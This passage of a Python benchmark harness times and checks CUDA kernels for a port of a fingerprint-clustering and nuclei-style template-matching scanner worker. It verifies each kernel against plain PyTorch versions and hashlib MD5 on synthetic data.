            "mma.sync b1 m16n8k256 .and.popc (hamming = popc(a&~b) + popc(~a&b)), "
            "packed rows, cp.async 3-stage, full square, threshold in the accumulator"
        ),
        "cluster_parent": (
            "mma.sync b1 m16n8k256 .and.popc, packed rows in density order, "
            "cp.async 3-stage, triangle (row tiles t and T-1-t a block), "
            "(d << 21 | j) min key, (d << 32 | j) above 2^21 rows"
        ),
    }
    out = {}
    for name, line in (("cluster_counts", 91), ("cluster_parent", 124)):
        ms, plain_ms = times[name]
        t_ops = products / b1_mma_per_s * 1e3
        t_bytes = io_bytes[name] / HBM_BYTES_PER_S * 1e3
        out[name] = {
            "name": name,
            "route": "cuda",
            "source": "swarm_tpu_torch/ops/csrc/cluster.cu",
            "replaces": f"swarm_tpu/ops/cluster.py:{line}",
            "design": design[name],
            "launches": 0,  # filled from the main path's run
            "match": True,
            "max_abs_err": err[name],
            "n": n,
            "ms": ms,
            "plain_ms": plain_ms,
            "bound_ms": max(t_ops, t_bytes),
            "bound_by": "operations" if t_ops >= t_bytes else "bytes",
            "bound_rate": "1-bit mma.sync m16n8k256 .and.popc, measured (mma phase)",
            "library_ms": library_ms,
            "library_call": (
                "torch.matmul bf16 [N,512]x[512,N] of the bit planes: the "
                "matrix-unit work of the Pallas kernel, not the whole function"
            ),
        }
    # the wrapper's time includes the density-order glue
    out["cluster_parent"]["kernel_only_ms"] = float(np.mean(key_ms[21]))
    out["cluster_parent"]["kernel_only_64bit_key_ms"] = float(np.mean(key_ms[32]))
    emit({"phase": "kernels", "cases": cases, "exact": True,
          "timing": {k: {"ms": v["ms"], "plain_ms": v["plain_ms"]} for k, v in out.items()},
          "parent_kernel_only_ms": {"key32": key_ms[21], "key64": key_ms[32]},
          "library_ms": library_ms})
    return out


def phase_scale(big: np.ndarray, smi: str) -> None:
    import torch

    from swarm_tpu_torch.ops import cluster

    n, radius, reps = big.shape[0], 40.0, 5
    labels, rho = cluster.density_cluster(big, radius, device="cuda")  # warm
    start = torch.cuda.Event(enable_timing=True)
    stop = torch.cuda.Event(enable_timing=True)
    t0 = time.perf_counter()
    start.record()
    for _ in range(reps):
        labels, rho = cluster.density_cluster(big, radius, device="cuda")
    stop.record()
    torch.cuda.synchronize()
    seconds = time.perf_counter() - t0
    clusters = int(np.unique(labels).size)
    # 64 base stacks, each host one character (≤ 8 bits) from its base:
    # every stack is one cluster
    if labels.shape != (n,) or rho.shape != (n,) or clusters != 64:
        raise AssertionError(f"scale: {clusters} clusters, shapes {labels.shape}")
    emit({
        "phase": "scale", "n": n, "bits": 512, "radius": radius, "reps": reps,
        "seconds": seconds, "fingerprints_per_s": reps * n / seconds,
        "ms_per_call": start.elapsed_time(stop) / reps, "clusters": clusters,
        "card": smi,
    })


def _union_us(spans: list[tuple[float, float]]) -> float:
    """Total length of the union of [start, end) spans."""
    total, reach = 0.0, float("-inf")
    for s, e in sorted(spans):
        if e > reach:
            total += e - max(s, reach)
            reach = e
    return total


def verdict_split_ms(args: tuple, clock_hz: float, reps: int = 10) -> dict:
    """The card's time a ``kernels.match_verdicts`` call of ``args``
    spends in each of its two launches, the pack and the evaluation:
    ``reps`` calls queued behind a spin kernel, as :func:`card_ms` queues
    them, each with an event before it, one between its launches (the
    wrapper's ``split``) and one after it. Events, not a profiler trace:
    a process that has taken many traces now and then gets traces
    without the card's kernels (ROADMAP C)."""
    import torch

    from swarm_tpu_torch.ops import kernels

    kernels.match_verdicts(*args)  # warm
    torch.cuda.synchronize()
    t0 = time.perf_counter()
    for _ in range(reps):
        kernels.match_verdicts(*args)
    torch.cuda.synchronize()
    enqueue_s = time.perf_counter() - t0
    marks = [[torch.cuda.Event(enable_timing=True) for _ in range(3)] for _ in range(reps)]
    for _, split, _ in marks:
        split.record()  # creates the event the launcher records
    torch.cuda.synchronize()
    torch.cuda._sleep(int((2 * enqueue_s + 1e-3) * clock_hz))
    for start, split, stop in marks:
        start.record()
        kernels.match_verdicts(*args, split=split)
        stop.record()
    torch.cuda.synchronize()
    return {"pack_card_ms": sum(a.elapsed_time(b) for a, b, _ in marks) / reps,
            "eval_card_ms": sum(b.elapsed_time(c) for _, b, c in marks) / reps}


#: CUDA runtime calls that can block the host (a synchronous copy, a
#: wait on a stream, an event or the device)
SYNC_APIS = ("cudaStreamSynchronize", "cudaDeviceSynchronize", "cudaEventSynchronize",
             "cudaMemcpy", "cudaMemcpyAsync")


def profile_call(run, name: str, span_names: tuple, optional: tuple = ()) -> dict:
    """One call of ``run`` under ``torch.profiler`` in a span ``name``:
    the call's span on the host, each kernel's and each copy's span on
    the card, the share of the call in which the card ran nothing, the
    host steps (``record_function`` spans ``span_names``, and those of
    ``optional`` that the trace holds: the profiler records the calling
    thread's spans only, not a helper thread's) with the card's idle
    time within each, and the CUDA runtime calls of ``SYNC_APIS`` by
    the innermost host step around them."""
    import tempfile

    import torch
    from torch.profiler import ProfilerActivity, profile, record_function

    with profile(activities=[ProfilerActivity.CPU, ProfilerActivity.CUDA]) as prof:
        with record_function(name):
            run()
        torch.cuda.synchronize()
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "trace.json"
        prof.export_chrome_trace(str(path))
        events = json.loads(path.read_text())["traceEvents"]
    call = [e for e in events if e.get("cat") == "user_annotation" and e.get("name") == name]
    if len(call) != 1:
        raise AssertionError(f"trace: {len(call)} {name} spans")
    t0 = float(call[0]["ts"])
    t1 = t0 + float(call[0]["dur"])
    device = [e for e in events
              if e.get("cat") in ("kernel", "gpu_memcpy", "gpu_memset") and "dur" in e]
    spans = [(max(t0, float(e["ts"])), min(t1, float(e["ts"]) + float(e["dur"])))
             for e in device]
    busy_us = _union_us([(s, e) for s, e in spans if e > s])
    kernels_ms = {}
    for e in device:
        if e["cat"] == "kernel":
            # "(anonymous namespace)::cluster_counts_kernel(uint4 const*, ...)",
            # "(anonymous namespace)::match_regex_scan_kernel<3>(Variants, ...)"
            found = re.search(r"(\w+(?:<\d+>)?)\(", e["name"])
            short = found.group(1) if found else e["name"]
            kernels_ms[short] = kernels_ms.get(short, 0.0) + float(e["dur"]) / 1e3
    copies_ms = sum(float(e["dur"]) for e in device if e["cat"] != "kernel") / 1e3
    span_ms = (t1 - t0) / 1e3
    host_spans = {}
    steps = []
    for e in events:
        if e.get("cat") != "user_annotation" or e.get("name") not in span_names + optional:
            continue
        s0, s1 = float(e["ts"]), float(e["ts"]) + float(e["dur"])
        busy = _union_us([(max(s0, a), min(s1, b)) for a, b in spans if min(s1, b) > max(s0, a)])
        acc = host_spans.setdefault(e["name"], {"ms": 0.0, "card_idle_ms": 0.0})
        acc["ms"] += (s1 - s0) / 1e3
        acc["card_idle_ms"] += (s1 - s0 - busy) / 1e3
        steps.append((s0, s1, e.get("tid"), e["name"]))
    host_syncs: dict = {}
    for e in events:
        if e.get("cat") != "cuda_runtime" or e.get("name") not in SYNC_APIS:
            continue
        ts = float(e["ts"])
        around = [st for st in steps if st[2] == e.get("tid") and st[0] <= ts < st[1]]
        where = min(around, key=lambda st: st[1] - st[0])[3] if around else "outside the steps"
        counts = host_syncs.setdefault(where, {})
        counts[e["name"]] = counts.get(e["name"], 0) + 1
    missing = [s for s in span_names if s not in host_spans]
    if missing:
        raise AssertionError(f"trace: no host span for {missing}")
    idle_ms = span_ms - busy_us / 1e3
    return {
        "call_ms": span_ms, "device_events": len(device),
        "kernel_launches": sum(e["cat"] == "kernel" for e in device),
        "kernels_ms": kernels_ms, "copies_ms": copies_ms,
        "device_busy_ms": busy_us / 1e3,
        "idle_share": (idle_ms / span_ms) if device else None,
        "host_spans": host_spans, "host_syncs": host_syncs,
        "idle_outside_spans_ms": idle_ms - sum(v["card_idle_ms"] for v in host_spans.values()),
    }


def phase_trace(big: np.ndarray) -> None:
    """One warm ``density_cluster`` call under ``torch.profiler``."""
    import torch

    from swarm_tpu_torch.ops import cluster

    radius = 40.0
    cluster.density_cluster(big, radius, device="cuda")  # warm
    torch.cuda.synchronize()
    out = profile_call(lambda: cluster.density_cluster(big, radius, device="cuda"),
                       "density_cluster", HOST_SPANS)
    out.pop("kernel_launches")
    emit({"phase": "trace", "n": big.shape[0], "radius": radius, **out})


def phase_worker() -> dict:
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    with SyntheticTlsFleet(per_shape=8) as fleet:
        blob = ("\n".join(fleet.targets) + "\n").encode()
        stub = StubServer(blob)
        try:
            cfg = WorkerConfig(
                server_url=stub.url, api_key=API_KEY, worker_id="chip-smoke",
                modules_dir=str(REPO / "modules"), max_jobs=1,
                poll_interval_idle_s=0.05, poll_interval_busy_s=0.0,
            )
            proc = JobProcessor(cfg, device="cuda")
            kernels.reset_launches()
            t0 = time.perf_counter()
            proc.process_jobs()
            seconds = time.perf_counter() - t0
            launches = dict(kernels.LAUNCHES)
        finally:
            stub.close()
        # the same module on the CPU (plain versions) must give the same bytes
        cpu = JobProcessor(cfg, device="cpu")
        twin = cpu._execute_jarm(cpu.registry.load("jarm"), blob)

    want = ["starting", "downloading", "executing", "uploading", "complete"]
    if stub.statuses != want:
        raise AssertionError(f"job statuses {stub.statuses}")
    lines = stub.output.decode().splitlines()
    if len(lines) != len(fleet.targets):
        raise AssertionError(f"{len(lines)} lines for {len(fleet.targets)} targets")
    if not any(ln.endswith("[dead]") for ln in lines):
        raise AssertionError("no [dead] line for the refused port")
    if not any(ln.endswith("[open not-tls]") for ln in lines):
        raise AssertionError("no [open not-tls] line for the plain listener")
    clusters = {ln.split(" cluster=")[1].split()[0] for ln in lines if " cluster=" in ln}
    if len(clusters) != 6:
        raise AssertionError(f"{len(clusters)} clusters, want 6")
    if stub.output != twin:
        raise AssertionError("cuda output differs from the CPU run")
    if min(launches["cluster_counts"], launches["cluster_parent"]) < 1:
        raise AssertionError(f"a kernel was not launched on the main path: {launches}")
    emit({
        "phase": "worker", "status": stub.statuses[-1], "targets": len(fleet.targets),
        "lines": len(lines), "clusters": len(clusters), "seconds": seconds,
        "launches": launches, "cpu_twin_identical": True,
    })
    return launches


# ---------------------------------------------------------------------------
# The template-match path

# bench.py's batch (bench.py:119-121): the stress batch's widths, and the
# rows of the stress batch and of the fingerprint job
MAX_BODY, MAX_HEADER, JOB_ROWS = 2048, 512, 2048
# the match phase's window of warm MatchEngine.match calls, in seconds
# (at least three calls): long enough to take in the GC's pauses
MATCH_WINDOW_S = 2.0
# the reference corpus after compilation (BENCH_r05.json, corpus line)
REFERENCE_COMPILED = {"device_templates": 3750, "word_slots": 14291,
                      "device_regex_matchers": 944, "host_tail": 0}
# H100 SXM data-sheet rate of 32-bit operations outside the tensor cores
# (67 TFLOP/s float32), used as the rate of the kernels' 32-bit integer
# work: Hopper issues int32 at no more than that, so the bound is a floor
SCALAR_OPS_PER_S = 67e12
MATCH_KERNELS = ("match_phase_a", "match_verify", "match_regex_scan", "match_md5",
                 "match_verdicts")
#: md5's dependent chain a round after the independent a + x + k: F
#: (one LOP3), an add, and the rotate with its add (one LEA.HI on
#: sm_90a, as csrc/md5.cu's SASS shows: :func:`sass_chain`), and the
#: cycles of one dependent integer operation, for the one-thread-a-row
#: kernel's latency bound
MD5_CHAIN_OPS, DEPENDENT_OP_CYCLES = 3, 4
#: the regex scan's dependent chain a byte (csrc/match.cu regex_step),
#: run by one lane a pair: a funnel shift, then one three-input logic
#: operation; each closure round adds a shift and an OR of an AND
REGEX_CHAIN_OPS, REGEX_CLOSURE_OPS = 2, 2
#: the md5 lengths where the padding changes shape (tests/test_torch_verdicts.py)
MD5_EDGE_LENGTHS = (0, 1, 55, 56, 63, 64, 119, 120, 127, 128, 183, 184)


def port_rows(dicts: list) -> list:
    from swarm_tpu_torch.fingerprints.model import Response

    return [Response(**d) for d in dicts]


def jsonl_rows(dicts: list) -> bytes:
    """Rows as the worker's ``jsonl`` input (bytes fields base64)."""
    lines = []
    for d in dicts:
        lines.append(json.dumps({
            "host": d["host"], "port": d["port"], "status": d["status"],
            "body_b64": base64.b64encode(d["body"]).decode(),
            "header_b64": base64.b64encode(d["header"]).decode(),
        }))
    return ("\n".join(lines) + "\n").encode()


def phase_corpus() -> tuple:
    """The synthetic corpus, parsed and compiled by the port."""
    from collections import Counter

    from swarm_tpu_torch.fingerprints.compile import compile_corpus
    from swarm_tpu_torch.fingerprints.nuclei import parse_template

    t0 = time.perf_counter()
    docs, plants = synthetic_corpus(0)
    templates = [parse_template(d) for d in docs]
    db = compile_corpus(templates)
    counts = Counter(m.type for tpl in templates for _, m in tpl.all_matchers())
    compiled = {
        "device_templates": db.num_templates, "word_slots": db.num_slots,
        "tables": len(db.tables), "tiny_slots": int(db.stats["tiny_slots"]),
        "device_regex_matchers": len(db.rx_m_ids), "host_tail": len(db.host_always),
        "md5_matchers": int(db.m_md5_check.sum()),
    }
    emit({"phase": "corpus", "templates": len(templates), "matchers": dict(counts),
          "compiled": compiled, "reference_compiled": REFERENCE_COMPILED,
          "seconds": time.perf_counter() - t0})
    for kind, n in CORPUS_MATCHERS.items():
        if counts[kind] != n:
            raise AssertionError(f"corpus: {counts[kind]} {kind} matchers, want {n}")
    if db.host_always or not db.m_md5_check.any() or not len(db.tiny_slot):
        raise AssertionError(f"corpus: compiled shape {compiled}")
    return templates, plants, db


def plain_versions() -> dict:
    """Each match kernel's plain PyTorch version, by kernel name."""
    from swarm_tpu_torch.ops import match, md5, regexdev

    return {"match_phase_a": match.phase_a_plain, "match_verify": match.verify_plain,
            "match_regex_scan": regexdev.regex_scan_plain, "match_md5": md5.md5_words,
            "match_verdicts": match.verdicts_plain}


class plain_kernels:
    """Route the match path's kernel calls to their plain versions for
    the comparisons here; the port itself never does this."""

    def __enter__(self):
        from swarm_tpu_torch.ops import kernels

        self._saved = {k: getattr(kernels, k) for k in MATCH_KERNELS}
        for name, fn in plain_versions().items():
            setattr(kernels, name, fn)

    def __exit__(self, *exc):
        from swarm_tpu_torch.ops import kernels

        for name, fn in self._saved.items():
            setattr(kernels, name, fn)


def _diff(a, b) -> float:
    """Largest absolute difference of two integer or bool tensors (two
    Nones: a plane neither computed)."""
    import torch

    if a is None or b is None:
        if a is not None or b is not None:
            raise AssertionError("one version computed a plane the other did not")
        return 0.0
    if a.shape != b.shape:
        raise AssertionError(f"shapes differ: {tuple(a.shape)} vs {tuple(b.shape)}")
    if a.numel() == 0:
        return 0.0
    return float((a.to(torch.int64) - b.to(torch.int64)).abs().max())


def check_calls(calls: list) -> dict:
    """Replay recorded match-kernel calls (``kernels.record_calls``):
    each kernel and its plain version on the same arguments on the card
    → the largest difference by kernel. Raises on any difference."""
    from swarm_tpu_torch.ops import kernels

    plain = plain_versions()
    err = {k: 0.0 for k in MATCH_KERNELS}
    for name, args in calls:
        got, want = getattr(kernels, name)(*args), plain[name](*args)
        if not isinstance(got, tuple):
            got, want = (got,), (want,)
        err[name] = max(err[name], *(_diff(a, b) for a, b in zip(got, want)))
    if any(err.values()):
        raise AssertionError(f"match kernels differ from their plain versions: {err}")
    return err


def _same_planes(planes, planes_p) -> None:
    for i, (a, b) in enumerate(zip(planes[:6], planes_p[:6])):
        if not np.array_equal(a, b):
            raise AssertionError(f"DeviceDB plane {i} differs from the plain versions")
    if (planes[6] is None) != (planes_p[6] is None) or (
        planes[6] is not None and not all(np.array_equal(a, b)
                                          for a, b in zip(planes[6], planes_p[6]))):
        raise AssertionError("workflow planes differ from the plain versions")


def match_case(dev_db, batch) -> dict:
    """One encoded batch through ``DeviceDB.match`` on the card with its
    kernel calls recorded. The planes must equal the same batch through
    the plain versions on the card, and each recorded call its plain
    version on the same arguments (:func:`check_calls`)."""
    from collections import Counter

    from swarm_tpu_torch.ops import kernels

    with kernels.record_calls() as calls:
        planes = dev_db.match(batch.streams, batch.lengths, batch.status)
    lc = dict(dev_db.last_compact)
    with plain_kernels():
        planes_p = dev_db.match(batch.streams, batch.lengths, batch.status)
    _same_planes(planes, planes_p)
    rx = [args for name, args in calls if name == "match_regex_scan"]
    return {
        "workflow_planes": planes[6] is not None,
        "rows": int(len(batch.status)), "budget": lc["budget"],
        "survivor_max": lc.get("survivor_max"), "verify_k": lc.get("verify_k"),
        "overflow_rows": int(planes[5].sum()),
        "k_pairs": sum(int(a[1].shape[0]) for a in rx),
        "rx_pairs": sum(int(a[3].sum()) for a in rx),
        "calls": dict(Counter(name for name, _ in calls)), "err": check_calls(calls),
    }


def kernel_work(name: str, args: tuple) -> tuple:
    """(bytes, operations) that one recorded call of a match kernel must
    move and do for its data, for its bound."""
    import torch

    if name == "match_phase_a":
        # the views' bytes up to each length and the T blooms read once,
        # col and n_surv written once; 2q multiply-adds a window + a
        # probe. A seq rank's view holds its slice of the row (global
        # offset off) with `back` bytes before it: the windows of its
        # slice that begin a gram, the bytes of the view up to the length
        views, qs, _cs, bloom, budget = args[:5]
        back, fwd = args[6:8] if len(args) > 6 else (0, 0)
        offs = args[8] if len(args) > 8 and args[8] is not None else (0,) * len(views)
        rows = views[0].data.shape[0]
        lens = [v.lengths.to(torch.int64) - o for v, o in zip(views, offs)]
        q_ops = sum(int((n - q + 1).clamp(0, v.data.shape[1] - back - fwd).sum())
                    * (4 * int(q) + 8) for v, n, q in zip(views, lens, qs))
        streams = {v.data.data_ptr(): int((n + back).clamp(0, v.data.shape[1]).sum())
                   for v, n in zip(views, lens)}
        return (sum(streams.values()) + bloom.numel() * 4 + rows * budget * 4 + rows * 4,
                q_ops)
    if name == "match_verify":
        # each live candidate's col entry, window, group search, entries
        # and up to 64 verify bytes; both [B, slots] planes written once
        col, kc, _tab, max_group, _sb, _sl, pw = args[3:10]
        live = int((col[:, :kc] >= 0).sum())
        return (live * (4 + 8 + 64 + 4 * 16 + max_group * 40) + 2 * col.shape[0] * pw,
                live * (40 + max_group * (16 + 64)))
    if name == "match_md5":
        # each row's walked blocks read once (within the stream's width),
        # the lengths read, the digests (four 32-bit words) written; ~9
        # 32-bit operations a round, 64 rounds a block
        stream, lens, _max_len = args
        blocks = md5_blocks(stream, lens)
        read = (blocks * 64).clamp(max=stream.shape[1])
        rows = stream.shape[0]
        return int(read.sum()) + rows * 4 + rows * 16, int(blocks.sum()) * 64 * 9
    if name == "match_verdicts":
        # both slot planes, the scalars, digest (four 32-bit words) and
        # overlay and the corpus layout read once; the output planes
        # written once: t and op value and unc, m_unc, and m_value only
        # for a corpus with workflow gates; per row, ~6 operations a
        # member gathered and ~20 a matcher
        layout, value, _unc, _ln, _st, digest, rx = args
        rows, ns = value.shape
        nbytes = 2 * rows * ns + rows * (4 + 4 * 5)
        nbytes += 0 if digest is None else rows * 16
        nbytes += 0 if rx is None else 2 * rows * layout.n_rx
        nbytes += sum(t.numel() * t.element_size() for t in layout.csr.values())
        nbytes += rows * (2 * layout.nt + 2 * layout.nop + layout.nm)
        nbytes += rows * layout.nm if layout.has_gates else 0
        members = sum(int(layout.csr[k].numel())
                      for k in ("m_slot_idx", "m_neg_idx", "op_m_idx", "t_op_idx"))
        return nbytes, rows * (6 * members + 20 * layout.nm)
    # match_regex_scan: each live pair's bytes and one bytemap row per
    # byte; the shift-and's lane operations per byte
    variants, pair_b, pair_s, valid, rx, _wt, r_closure = args
    lens = torch.stack([v.lengths for v in variants], 1).to(torch.int64)
    pair_len = lens[pair_b, rx["var_of_seq"].to(torch.int64)[pair_s]]
    scan = int(pair_len[valid].sum())
    lanes = int(rx["bytemap"].shape[2])
    return (scan * (1 + 4 * lanes) + int(pair_b.numel()) * 17,
            scan * lanes * (8 + 3 * int(r_closure)) + scan * 12)


def md5_blocks(stream, lens):
    """Blocks the md5 kernel walks for each row: the padded message's
    floor((len + 72) / 64), at most the stream's width / 64 + 1."""
    return ((lens.to("cpu").long() + 72) // 64).clamp(0, stream.shape[1] // 64 + 1)


def _call_shape(name: str, args: tuple) -> dict:
    if name == "match_md5":
        blocks = md5_blocks(args[0], args[1])
        return {"rows": int(args[0].shape[0]), "width": int(args[0].shape[1]),
                "blocks": int(blocks.sum()), "max_blocks": int(blocks.max())}
    if name == "match_verdicts":
        layout, value = args[0], args[1]
        return {"rows": int(value.shape[0]), "slots": int(value.shape[1]),
                "matchers": layout.nm, "ops": layout.nop, "templates": layout.nt,
                "digest": args[5] is not None, "rx": args[6] is not None,
                "m_value": layout.has_gates}
    if name == "match_phase_a":
        return {"rows": int(args[0][0].data.shape[0]),
                "widths": sorted({int(v.data.shape[1]) for v in args[0]})}
    if name == "match_verify":
        return {"rows": int(args[3].shape[0]), "verify_k": int(args[4]),
                "live_candidates": int((args[3][:, : args[4]] >= 0).sum())}
    _variants, pair_b, _pair_s, valid, rx, _wt, r_closure = args
    return {"pairs": int(pair_b.shape[0]), "live_pairs": int(valid.sum()),
            "max_pair_len": int(regex_pair_lengths(args).max(initial=0)),
            "lanes": int(rx["bytemap"].shape[2]), "r_closure": int(r_closure)}


def regex_pair_lengths(args: tuple) -> np.ndarray:
    """The stream length of each live pair of a recorded
    ``match_regex_scan`` call."""
    import torch

    variants, pair_b, pair_s, valid, rx = args[:5]
    lens = torch.stack([v.lengths for v in variants], 1).to(torch.int64)
    n = lens[pair_b, rx["var_of_seq"].to(torch.int64)[pair_s]]
    return n[valid].cpu().numpy()


def edge_batches(templates, plants) -> dict:
    """Encoded batches for the kernels' edge cases (no 256-row padding)."""
    from swarm_tpu_torch.fingerprints.model import Response
    from swarm_tpu_torch.ops.encoding import encode_batch

    def enc(rows):
        return encode_batch(rows, max_body=MAX_BODY, max_header=MAX_HEADER,
                            build_all=False, width_multiple=512)

    words = [w.encode() for tpl in templates for _, m in tpl.all_matchers()
             for w in m.words]
    planted = port_rows(realistic_rows(64, seed=3, plants=plants))
    full_body = b" ".join(words)[: MAX_BODY - 3] + b" " + words[0][:2]
    full = Response(host="h", port=80, status=200, body=full_body.ljust(MAX_BODY, b"."),
                    header=(b"Server: " + b" ".join(words[::7]))[:MAX_HEADER].ljust(MAX_HEADER, b"x"))
    # a body of corpus words, longer than the widths: truncated, and more
    # fired windows than the candidate budget
    dense = Response(host="h", port=80, status=200, body=b"".join(words)[: 3 * MAX_BODY],
                     header=b"X-A: " + b"".join(words[:40]))
    return {
        "one_row": enc(planted[:1]),
        "empty_rows": enc([Response(host="e", port=80)] * 5),
        "full_width": enc([full, full]),
        "budget_overflow": enc([dense] + planted[:3]),
    }


def tree_batch():
    """The ``tests/data/templates`` corpus (its workflow lowers gate
    planes) compiled by the port, and 256 encoded rows built from its
    words, statuses, a 16-byte body (its md5 check), a 1,500-byte body
    (its size dsl) and a widget header (its header regex)."""
    from swarm_tpu_torch.fingerprints.compile import compile_corpus
    from swarm_tpu_torch.fingerprints.model import Response
    from swarm_tpu_torch.fingerprints.nuclei import load_corpus
    from swarm_tpu_torch.ops.encoding import encode_batch

    templates, _ = load_corpus(REPO / "tests" / "data" / "templates")
    db = compile_corpus(templates)
    rng = np.random.default_rng(5)
    words = sorted({w for tpl in templates for _, m in tpl.all_matchers() for w in m.words})
    statuses = sorted({s for tpl in templates for _, m in tpl.all_matchers() for s in m.status}
                      | {200, 404})
    rows = []
    for i in range(256):
        pick = [words[j] for j in rng.choice(len(words), int(rng.integers(0, 4)), replace=False)]
        body = ("<html>" + " ".join(pick) + "</html>").encode()
        shape = i % 8
        if shape == 1:
            body = bytes(rng.integers(32, 127, 16, dtype=np.uint8))
        elif shape == 2:
            body = body.ljust(1500, b"x")
        header = b"Server: nginx"
        if shape == 3:
            header += b"\r\nX-Widget-Version: %d.%d" % (i % 7, i % 5)
        rows.append(Response(host=f"t{i}", port=80, status=int(rng.choice(statuses)),
                             body=body, header=header))
    return db, encode_batch(rows, max_body=4096, max_header=1024, build_all=False,
                            width_multiple=512)


#: ``match_md5``'s chunk: the bytes of a row one stage of its shared
#: ring holds (csrc/md5.cu kChunkBlocks x 64), and its rows a block (kRows)
MD5_CHUNK_BYTES, MD5_BLOCK_ROWS = 256, 32
#: the widths of :func:`md5_cases`: one block, one chunk, a width that is
#: not a multiple of the chunk, and the widest body the engine encodes
MD5_CASE_WIDTHS = (64, 256, 320, 4096)
#: lengths of 0 and below (the JAX code walks one block, with a wrapped
#: bit length, for -8 .. -1, none from -9 down)
MD5_NONPOSITIVE = (0, -1, -8, -9, -10, -63, -64, -72, -73, -100, -2**31)
#: lengths past the width W, as W + d: the marker and the bit length in
#: the extra block (d <= 55), the marker without it (56 .. 63), neither
MD5_PAST_WIDTH = (1, 8, 9, 55, 56, 60, 63, 64, 65, 127, 128, 1000)


def md5_cases(width: int, seed: int = 12) -> dict:
    """Named ``match_md5`` inputs at one width, each (stream uint8 [B,
    width], lengths int32 [B]); every byte of every stream is random, so
    the bytes past each length are not zero:

    - ``random``: 1,024 rows of lengths in [0, width], so each of the
      kernel's blocks of ``MD5_BLOCK_ROWS`` rows mixes long and short;
    - ``edge_lanes``: the md5 edge lengths and width - 9, width - 8,
      width - 1 and width, in a cycle of odd length over 256 rows, so
      that each lands at eight lanes of the blocks;
    - ``chunk_borders``: every multiple of ``MD5_CHUNK_BYTES`` up to the
      width and the width, each -1, 0, +1;
    - ``nonpositive``: ``MD5_NONPOSITIVE`` beside rows of the full width;
    - ``past_width``: ``width + d`` for each d of ``MD5_PAST_WIDTH`` (the
      JAX code's capped block count, 0x80 in the extra block)."""
    rng = np.random.default_rng(seed + width)

    def rows(lens) -> tuple:
        lens = np.asarray(lens, dtype=np.int64).astype(np.int32)
        return rng.integers(0, 256, (len(lens), width), dtype=np.uint8), lens

    edges = [n for n in MD5_EDGE_LENGTHS if n <= width]
    edges += [width - 9, width - 8, width - 1, width]
    cycle = edges + rng.integers(0, width + 1, 1 - len(edges) % 2).tolist()
    borders = sorted({b + d for b in (*range(0, width + 1, MD5_CHUNK_BYTES), width)
                      for d in (-1, 0, 1) if 0 <= b + d <= width})
    return {
        "random": rows(rng.integers(0, width + 1, 1024)),
        "edge_lanes": rows([cycle[i % len(cycle)] for i in range(8 * MD5_BLOCK_ROWS)]),
        "chunk_borders": rows(rng.permutation(borders)),
        "nonpositive": rows([v for n in MD5_NONPOSITIVE for v in (n, width)]),
        "past_width": rows([width + d for d in MD5_PAST_WIDTH]),
    }


def md5_hashlib(stream: np.ndarray, lens: np.ndarray) -> tuple:
    """hashlib's digests of the rows where the JAX ``md5_words`` computes
    MD5 of a message: lengths 0 .. W + 55, the bytes past W read as zero
    → (mask of those rows, their four little-endian words as int64)."""
    width = stream.shape[1]
    ok = (lens >= 0) & (lens <= width + 55)
    words = np.zeros((len(lens), 4), dtype=np.int64)
    for i in np.nonzero(ok)[0]:
        msg = stream[i, :lens[i]].tobytes() + bytes(max(0, int(lens[i]) - width))
        words[i] = np.frombuffer(hashlib.md5(msg).digest(), "<u4")
    return ok, words


def md5_edge_case() -> dict:
    """``match_md5`` on :func:`md5_cases` at each of ``MD5_CASE_WIDTHS``
    and at the worker's and the stress batch's body widths: exact
    against its plain version on the card and against hashlib where the
    JAX code computes MD5 of a message (:func:`md5_hashlib`) → rows a
    case and the largest difference."""
    import torch

    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.md5 import md5_words

    out, err = {}, 0.0
    for width in sorted({*MD5_CASE_WIDTHS, MAX_BODY}):
        # a width's cases in one call, each case's rows together (the
        # plain version's time grows with the width, not the rows)
        cases = md5_cases(width)
        stream = np.concatenate([c[0] for c in cases.values()])
        lens = np.concatenate([c[1] for c in cases.values()])
        s, n = torch.from_numpy(stream).cuda(), torch.from_numpy(lens).cuda()
        got = kernels.match_md5(s, n).cpu().numpy()
        want = md5_words(s, n).cpu().numpy()
        ok, host = md5_hashlib(stream, lens)
        start = 0
        for name, (_s, case_lens) in cases.items():
            rows = slice(start, start + len(case_lens))
            start += len(case_lens)
            e = max(float(np.abs(got[rows] - want[rows]).max()),
                    float(np.abs(got[rows][ok[rows]] - host[rows][ok[rows]]).max(initial=0)))
            if e:
                raise AssertionError(f"match_md5 differs on {name} at width {width}: {e}")
            err = max(err, e)
            out[f"{name}_{width}"] = {"rows": len(case_lens), "hashlib_rows": int(ok[rows].sum())}
    return {"cases": out, "max_abs_err": err}


def verdict_variants(args: tuple) -> dict:
    """``match_verdicts`` against its plain version on one recorded call
    without its digest (the md5 checks fail closed), without its regex
    overlay, without both, on seeded random slot planes, and on its first
    1, 33 and 257 rows (a word of 32 rows partly filled, and one row past
    whole words)."""
    import torch

    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.match import verdicts_plain

    layout, value, unc, ln, st, digest, rx = args
    if digest is None or rx is None:
        raise AssertionError("the recorded verdict call has no digest or no overlay")
    gen = torch.Generator(device=value.device).manual_seed(3)
    rand_v = torch.rand(value.shape, generator=gen, device=value.device) < 0.3
    rand_u = torch.rand(value.shape, generator=gen, device=value.device) < 0.2
    variants = {
        "no_digest": (layout, value, unc, ln, st, None, rx),
        "no_rx": (layout, value, unc, ln, st, digest, None),
        "neither": (layout, value, unc, ln, st, None, None),
        "random_planes": (layout, rand_v, rand_u, ln, st, digest, rx),
    }
    for n in (1, 33, 257):
        variants[f"rows_{n}"] = (layout, value[:n], unc[:n], {k: t[:n] for k, t in ln.items()},
                                 st[:n], digest[:n], tuple(p[:n] for p in rx))
    variants["status_values_40"] = wide_verdict_call()
    out = {}
    for name, a in variants.items():
        got, want = kernels.match_verdicts(*a), verdicts_plain(*a)
        err = max(_diff(x, y) for x, y in zip(got, want))
        if err:
            raise AssertionError(f"match_verdicts differs from its plain version ({name})")
        out[name] = {"t_value": int(want[0].sum()), "t_unc": int(want[1].sum()),
                     "m_unc": int(want[5].sum())}
    # three rows fire both templates, four rows the size template alone
    if out["status_values_40"]["t_value"] != 3 * 2 + 4:
        raise AssertionError(f"the wide matchers' verdicts: {out['status_values_40']}")
    return out


def wide_verdict_call() -> tuple:
